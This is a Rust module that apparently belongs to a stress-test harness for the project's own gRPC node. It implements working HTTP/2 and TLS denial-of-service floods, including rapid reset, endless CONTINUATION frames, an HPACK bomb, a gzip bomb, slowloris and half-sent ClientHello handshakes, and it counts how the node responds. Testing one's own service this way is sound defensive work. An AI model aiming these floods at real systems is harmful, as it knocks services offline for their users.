//! The floods: what each of them says, how often, and what it does with the answers.

use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context, Result};
use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::runtime::Runtime;

use crate::h2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Ended, HEADERS, PING, PRIORITY, RST_STREAM, Raw,
    SETTINGS, WINDOW_UPDATE, client_hello, frame, header, indexed_header, message, request,
    request_head, settings,
};
use crate::place::Way;

/// From how many connections.
pub(crate) const CONNECTIONS: u64 = 50;

/// From how many that never come to speak.
const HALF_OPEN: u64 = 1_000;

/// The pause between two bursts of one connection.
const PAUSE: Duration = Duration::from_millis(10);

/// The lowest priority there is.
const NICE: i32 = 19;

/// A method that answers little, and one that answers much.
const ROLLUP: &str = "/liandong.rollup.v1.RollupService/GetRollup";
const REGIONS: &str = "/liandong.admin.v1.AdminService/ListRegions";
const PUSH: &str = "/liandong.progress.v1.ProgressService/PushReports";

/// A flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    RapidReset,
    Continuation,
    Settings,
    Ping,
    EmptyData,
    ZeroWindow,
    WindowUpdates,
    Priorities,
    HeaderBomb,
    HugeHeader,
    NoPath,
    Silent,
    Slowloris,
    GzipBomb,
    Unfinished,
    Unread,
    HalfOpen,
    HalfHello,
    TrickledHello,
}

impl Flood {
    pub(crate) const ALL: [Self; 16] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::ZeroWindow,
        Self::WindowUpdates,
        Self::Priorities,
        Self::HeaderBomb,
        Self::HugeHeader,
        Self::NoPath,
        Self::Silent,
        Self::Slowloris,
        Self::GzipBomb,
        Self::Unfinished,
        Self::Unread,
    ];

    /// Those that are made over TLS as well, and those that there are only there.
    pub(crate) const ENCRYPTED: [Self; 10] = [
        Self::HalfOpen,
        Self::HalfHello,
        Self::TrickledHello,
        Self::RapidReset,
        Self::Continuation,
        Self::HeaderBomb,
        Self::HugeHeader,
        Self::GzipBomb,
        Self::ZeroWindow,
        Self::Unread,
    ];

    /// What it is called, and what it does.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset (HEADERS and RST_STREAM)",
            Self::Continuation => "CONTINUATION without end",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::EmptyData => "empty DATA",
            Self::ZeroWindow => "slow read (windows of zero)",
            Self::WindowUpdates => "WINDOW_UPDATE",
            Self::Priorities => "PRIORITY",
            Self::HeaderBomb => "HPACK bomb",
            Self::HugeHeader => "header of 1 MiB",
            Self::NoPath => "requests without :path",
            Self::Silent => "connections that say nothing",
            Self::Slowloris => "HTTP/1 heads byte by byte",
            Self::GzipBomb => "gzip bombs",
            Self::Unfinished => "messages that never end",
            Self::Unread => "answers that are never read",
            Self::HalfOpen => "handshakes that never begin",
            Self::HalfHello => "half of a ClientHello",
            Self::TrickledHello => "ClientHello byte by byte",
        }
    }

    /// From how many connections it comes.
    pub(crate) fn connections(self) -> u64 {
        if self.is_handshake() {
            HALF_OPEN
        } else {
            CONNECTIONS
        }
    }

    /// Whether it never gets as far as to speak.
    pub(crate) fn is_handshake(self) -> bool {
        matches!(self, Self::HalfOpen | Self::HalfHello | Self::TrickledHello)
    }

    fn is_http2(self) -> bool {
        !self.is_handshake() && !matches!(self, Self::Silent | Self::Slowloris)
    }

    fn reads(self) -> bool {
        !matches!(self, Self::Unread)
    }

    fn greeting(self) -> &'static [(u16, u32)] {
        match self {
            // The initial window.
            Self::ZeroWindow => &[(4, 0)],
            _ => &[],
        }
    }

    /// What is said in the `round`-th burst on a connection; all bursts together are one
    /// conversation.
    fn burst(self, round: u32, bombs: &Bombs) -> Vec<u8> {
        // Sixteen streams a burst.
        let ids = (0..16).map(|place| 1 + 2 * (round * 16 + place));
        let mut bytes = Vec::new();
        match self {
            Self::RapidReset => {
                for id in ids {
                    bytes.extend(frame(HEADERS, END_HEADERS, id, &request_head(ROLLUP)));
                    bytes.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                }
            }
            Self::Continuation => {
                if round == 0 {
                    bytes.extend(frame(HEADERS, 0, 1, &request_head(ROLLUP)));
                }
                for place in 0..8 {
                    let more = header(&format!("x-{round}-{place}"), &[b'a'; 100]);
                    bytes.extend(frame(CONTINUATION, 0, 1, &more));
                }
            }
            Self::Settings => {
                for window in 0..16 {
                    bytes.extend(settings(&[(4, 65_535 + window), (3, 100), (5, 16_384)]));
                }
            }
            Self::Ping => {
                for id in ids {
                    bytes.extend(frame(PING, 0, 0, &[id.to_be_bytes(), [7; 4]].concat()));
                }
            }
            Self::EmptyData => {
                if round == 0 {
                    bytes.extend(frame(HEADERS, END_HEADERS, 1, &request_head(PUSH)));
                }
                for _ in 0..64 {
                    bytes.extend(frame(DATA, 0, 1, &[]));
                }
            }
            Self::ZeroWindow | Self::Unread if round < 4 => {
                for id in ids {
                    bytes.extend(request(id, REGIONS, &[]));
                }
            }
            // As many streams as it may have are open: it lives on, and reads next to nothing.
            Self::ZeroWindow => {
                let stream = 1 + 2 * (round % 64);
                bytes.extend(frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes()));
            }
            Self::Unread => bytes.extend(frame(PING, 0, 0, &[7; 8])),
            Self::WindowUpdates => {
                if round == 0 {
                    bytes.extend(frame(HEADERS, END_HEADERS, 1, &request_head(PUSH)));
                }
                for stream in [0, 1].repeat(16) {
                    bytes.extend(frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes()));
                }
            }
            Self::Priorities => {
                for id in ids {
                    bytes.extend(frame(PRIORITY, 0, id, &[0, 0, 0, 0, 9]));
                    bytes.extend(frame(PRIORITY, 0, id + 100_000, &[0, 0, 0, 1, 200]));
                }
            }
            Self::HeaderBomb => {
                if round == 0 {
                    // One long header goes into the table, and is then named by one byte each.
                    let mut head = request_head(ROLLUP);
                    head.extend(indexed_header("x", &[b'a'; 3_900]));
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1, &head));
                } else {
                    let mut head = request_head(ROLLUP);
                    head.extend([0x80 | 62].repeat(8_000));
                    let id = 1 + 2 * round;
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &head));
                }
            }
            Self::HugeHeader => {
                let mut head = request_head(ROLLUP);
                head.extend(header("x", &vec![b'a'; 1 << 20]));
                let (first, rest) = head.split_at(16_000);
                let id = 1 + 2 * round;
                bytes.extend(frame(HEADERS, 0, id, first));
                for part in rest.chunks(16_000) {
                    bytes.extend(frame(CONTINUATION, 0, id, part));
                }
                bytes.extend(frame(CONTINUATION, END_HEADERS, id, &[]));
            }
            Self::NoPath => {
                for id in ids {
                    let head = request_head("");
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &head));
                }
            }
            Self::Silent | Self::HalfOpen => {}
            Self::HalfHello if round == 0 => {
                bytes.extend_from_slice(&bombs.hello[..bombs.hello.len() / 2]);
            }
            Self::HalfHello => {}
            Self::TrickledHello => {
                // The last one is never sent.
                let last = bombs.hello.len().saturating_sub(1);
                let next = bombs.hello[..last].get(usize::try_from(round).unwrap_or(last));
                bytes.extend(next);
            }
            Self::Slowloris => {
                if round == 0 {
                    bytes
                        .extend_from_slice(b"GET /console HTTP/1.1\r\nHost: localhost\r\nX-Long: ");
                } else {
                    bytes.push(b'a');
                }
            }
            Self::GzipBomb => {
                for id in ids.take(1) {
                    bytes.extend(bombs.request(id));
                }
            }
            Self::Unfinished => {
                for id in ids {
                    bytes.extend(frame(HEADERS, END_HEADERS, id, &request_head(PUSH)));
                    // 16 MB are promised.
                    let mut begun = vec![0];
                    begun.extend((15u32 << 20).to_be_bytes());
                    begun.resize(16_000, 0);
                    bytes.extend(frame(DATA, 0, id, &begun));
                }
            }
        }
        bytes
    }
}

/// What is sent over and over, made once.
#[derive(Debug)]
struct Bombs {
    compressed: Vec<u8>,
    /// How a handshake begins; empty in plain text.
    hello: Vec<u8>,
}

impl Bombs {
    fn new(way: &Way) -> Result<Self> {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
        // A batch whose author has a name of 15 MB: it unpacks to just less than what is taken.
        let mut batch = vec![0x12];
        let name = vec![b'x'; 15 << 20];
        put_varint(&mut batch, name.len());
        batch.extend_from_slice(&name);
        let mut push = vec![0x0a];
        put_varint(&mut push, batch.len());
        gzip.write_all(&push)?;
        gzip.write_all(&batch)?;
        Ok(Self {
            compressed: gzip.finish()?,
            hello: way.tls.as_ref().map_or(Ok(Vec::new()), client_hello)?,
        })
    }

    fn request(&self, id: u32) -> Vec<u8> {
        let mut head = request_head(PUSH);
        head.extend(header("grpc-encoding", b"gzip"));
        let mut bytes = frame(HEADERS, END_HEADERS, id, &head);
        let mut framed = message(&self.compressed);
        framed[0] = 1;
        let mut parts = framed.chunks(16_000).peekable();
        while let Some(part) = parts.next() {
            let flags = if parts.peek().is_none() {
                END_STREAM
            } else {
                0
            };
            bytes.extend(frame(DATA, flags, id, part));
        }
        bytes
    }
}

fn put_varint(bytes: &mut Vec<u8>, mut value: usize) {
    while value >= 128 {
        bytes.push(u8::try_from(value % 128).unwrap_or(0) | 128);
        value /= 128;
    }
    bytes.push(u8::try_from(value).unwrap_or(0));
}

/// What the attackers came to.
#[derive(Debug, Default)]
pub(crate) struct Counts {
    /// Connections that were made.
    pub(crate) connections: AtomicU64,
    /// Bursts that were sent.
    pub(crate) bursts: AtomicU64,
    /// Connections that the node ended.
    pub(crate) ended: AtomicU64,
}

/// Attackers at work, on threads of their own.
#[derive(Debug)]
pub(crate) struct Attackers {
    runtime: Runtime,
    stop: Arc<AtomicBool>,
    pub(crate) counts: Arc<Counts>,
}

impl Attackers {
    /// Sets as many connections as the flood has on a node.
    pub(crate) fn begin(flood: Flood, way: &Way) -> Result<Self> {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .thread_name("attacker")
            .on_thread_start(|| {
                // Here each thread has a priority of its own; where it cannot be lowered the
                // attack is the fiercer.
                let _ = rustix::process::setpriority_process(None, NICE);
            })
            .enable_all()
            .build()
            .context("cannot start threads")?;
        let (stop, counts) = (Arc::<AtomicBool>::default(), Arc::<Counts>::default());
        let bombs = Arc::new(Bombs::new(way)?);
        for _ in 0..flood.connections() {
            let way = way.clone();
            let (stop, counts) = (Arc::clone(&stop), Arc::clone(&counts));
            let bombs = Arc::clone(&bombs);
            runtime.spawn(async move {
                while !stop.load(Ordering::Relaxed) {
                    // Whatever becomes of a connection, the next one follows.
                    let _ = one(flood, &way, &bombs, &stop, &counts).await;
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        Ok(Self {
            runtime,
            stop,
            counts,
        })
    }

    /// Ends every attack at once.
    pub(crate) fn end(self) -> Arc<Counts> {
        self.stop.store(true, Ordering::Relaxed);
        self.runtime.shutdown_background();
        self.counts
    }
}

async fn one(
    flood: Flood,
    way: &Way,
    bombs: &Bombs,
    stop: &AtomicBool,
    counts: &Counts,
) -> Result<()> {
    let mut raw = if flood.is_http2() {
        Raw::greet(way, flood.greeting()).await?
    } else if flood.is_handshake() {
        Raw::silently(way).await?
    } else {
        Raw::connect(way).await?
    };
    counts.connections.fetch_add(1, Ordering::Relaxed);
    // Stream numbers end at 2^31; no connection gets so far.
    for round in 0..60_000_000 {
        if stop.load(Ordering::Relaxed) {
            return Ok(());
        }
        let burst = flood.burst(round, bombs);
        let sent = tokio::time::timeout(Duration::from_secs(1), raw.send(&burst)).await;
        if let Ok(sent) = sent {
            if sent.is_err() {
                break;
            }
            counts.bursts.fetch_add(1, Ordering::Relaxed);
        }
        if flood.reads() && raw.drain() == Ended::Closed {
            break;
        }
        tokio::time::sleep(PAUSE).await;
    }
    counts.ended.fetch_add(1, Ordering::Relaxed);
    Ok(())
}

/// How a settings frame that answers another looks; sent by whoever keeps to the rules.
pub(crate) fn acknowledged() -> Vec<u8> {
    frame(SETTINGS, 1, 0, &[])
}
